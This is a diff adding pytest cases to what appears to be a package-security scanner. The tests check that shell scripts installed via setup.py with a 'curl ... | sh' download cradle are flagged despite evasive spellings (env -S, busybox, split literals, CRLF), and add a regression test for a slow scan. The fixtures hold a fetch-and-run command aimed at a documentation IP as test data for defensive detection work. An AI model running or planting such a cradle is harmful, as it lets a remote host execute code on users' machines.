@@ -126,3 +126,46 @@ def test_what_is_a_shell_script_and_what_setup_py_installs() -> None:
     commands.note_script("b.sh", _CRADLE.encode())
     commands.note_script("sub/bin/c", _CRADLE.encode())
     assert sorted(f.file for f in commands.findings()) == ["b.sh", "sub/bin/a"]
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        # attack11: a shebang the shell pattern did not read (an option before the shell,
+        # a multi-call binary), a name written as two literals, CRLF line ends
+        {
+            "setup.py": _setup("['bin/tool']"),
+            "bin/tool": "#!/usr/bin/env -S bash -e\ncurl -s http://198.51.100.7/x | sh\n",
+        },
+        {
+            "setup.py": _setup("['bin/tool']"),
+            "bin/tool": "#!/bin/busybox sh\ncurl -s http://198.51.100.7/x | sh\n",
+        },
+        {"setup.py": _setup("['bin/' 'x.sh']"), "bin/x.sh": _CRADLE},
+        {"setup.py": _setup("['bin/x.sh']"), "bin/x.sh": _CRADLE.replace("\n", "\r\n")},
+    ],
+    ids=["env-option", "busybox", "two-literals", "crlf"],
+)
+@pytest.mark.parametrize("form", ["tree", "sdist"])
+def test_near_spellings_of_an_installed_cradle_are_danger(
+    tmp_path: Path, files: dict[str, str], form: str
+) -> None:
+    assert "CPL-THR-015" in {r for r, _ in package_danger(_target(tmp_path, files, form))}
+
+
+def test_an_unclosed_scripts_list_written_many_times_is_read_in_one_pass() -> None:
+    # attack11: each `scripts=[` scanned to the end of the file (16,000 of them, 144 kB:
+    # 10 s of CPU on main, 470 s at 1 MB); a bracket ends a match now. The list written
+    # before them is still read.
+    commands = InstalledCommands()
+    commands.note_setup("setup.py", "setup(scripts=['bin/x.sh'])\n# " + "scripts=[" * 16000)
+    commands.note_script("bin/x.sh", _CRADLE.encode())
+    assert [f.rule_id for f in commands.findings()] == ["CPL-THR-015"]
+
+
+def test_shebangs_that_name_a_shell_as_any_word() -> None:
+    assert shell_script("bin/tool", b"#!/usr/bin/env -S bash -e\n")
+    assert shell_script("bin/tool", b"#!/bin/busybox sh\n")
+    assert shell_script("bin/tool", b"#!sh\n")
+    assert not shell_script("bin/tool", b"#!/usr/bin/env python3 -m shutil\n")
+    assert not shell_script("bin/tool", b"#!/usr/bin/python3 -X dev\nsh\n")
